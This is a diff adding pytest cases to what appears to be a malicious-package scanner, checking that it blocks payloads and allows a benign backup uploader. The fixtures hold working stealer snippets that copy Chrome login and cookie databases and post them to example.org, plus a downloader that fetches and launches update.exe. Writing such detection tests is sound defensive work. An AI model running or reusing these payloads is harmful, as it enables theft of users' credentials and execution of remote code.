@@ -202,3 +202,60 @@ def test_a_module_that_only_talks_to_the_network_is_still_read(
         assert result.error is None, result.error
         rules = sorted({f.rule for f in result.verdict.findings})
         assert result.verdict.decision is Decision.BLOCK, (place, rules)
+
+
+# -- browser stores copied before they are read, and files started by association ----------
+
+COPIED = {
+    # Browsers lock their databases: stealers copy them to a temporary file first.
+    "copy to a variable, upload the file": (
+        "import os, shutil, tempfile, requests\n"
+        "src = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', "
+        "'Default', 'Login Data')\n"
+        "dst = os.path.join(tempfile.gettempdir(), 'ld.db')\n"
+        "shutil.copy2(src, dst)\n"
+        "requests.post('https://example.org/c', files={'f': open(dst, 'rb')})\n"
+    ),
+    "copy to a literal path, read it back": (
+        "import os, shutil, requests\n"
+        "shutil.copyfile(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), "
+        "'ld.db')\n"
+        "requests.post('https://example.org/c', data=open('ld.db', 'rb').read())\n"
+    ),
+    "copy, then query with sqlite3": (
+        "import os, shutil, sqlite3, requests\n"
+        "shutil.copy(os.path.expanduser('~/.config/google-chrome/Default/Cookies'), '/tmp/c')\n"
+        "rows = sqlite3.connect('/tmp/c').execute('select name, encrypted_value from cookies')\n"
+        "requests.post('https://example.org/c', json=[list(map(str, r)) for r in rows])\n"
+    ),
+    "a downloaded program started by association": (
+        "import os, tempfile, urllib.request\n"
+        "p = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
+        "urllib.request.urlretrieve('http://198.51.100.23/update.exe', p)\n"
+        "os.startfile(p)\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("payload", list(COPIED.values()), ids=list(COPIED))
+def test_copied_stores_and_started_downloads_are_blocked(payload: str, tmp_path: Path) -> None:
+    for place in ("__init__", "imported module"):
+        directory = tmp_path / place.replace(" ", "_")
+        directory.mkdir()
+        result = scan_target(_package(directory, place, payload), Policy())
+        assert result.error is None, result.error
+        rules = sorted({f.rule for f in result.verdict.findings})
+        assert result.verdict.decision is Decision.BLOCK, (place, rules)
+
+
+def test_a_copied_ordinary_file_carries_nothing(tmp_path: Path) -> None:
+    # The same copy-then-upload shape with a project file: a backup uploader, not a stealer.
+    payload = (
+        "import shutil, requests\n"
+        "def backup():\n"
+        "    shutil.copy('settings.ini', '/tmp/settings.bak')\n"
+        "    requests.post('https://example.org/b', data=open('/tmp/settings.bak', 'rb').read())\n"
+    )
+    result = scan_target(_package(tmp_path, "imported module", payload), Policy())
+    assert result.error is None, result.error
+    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
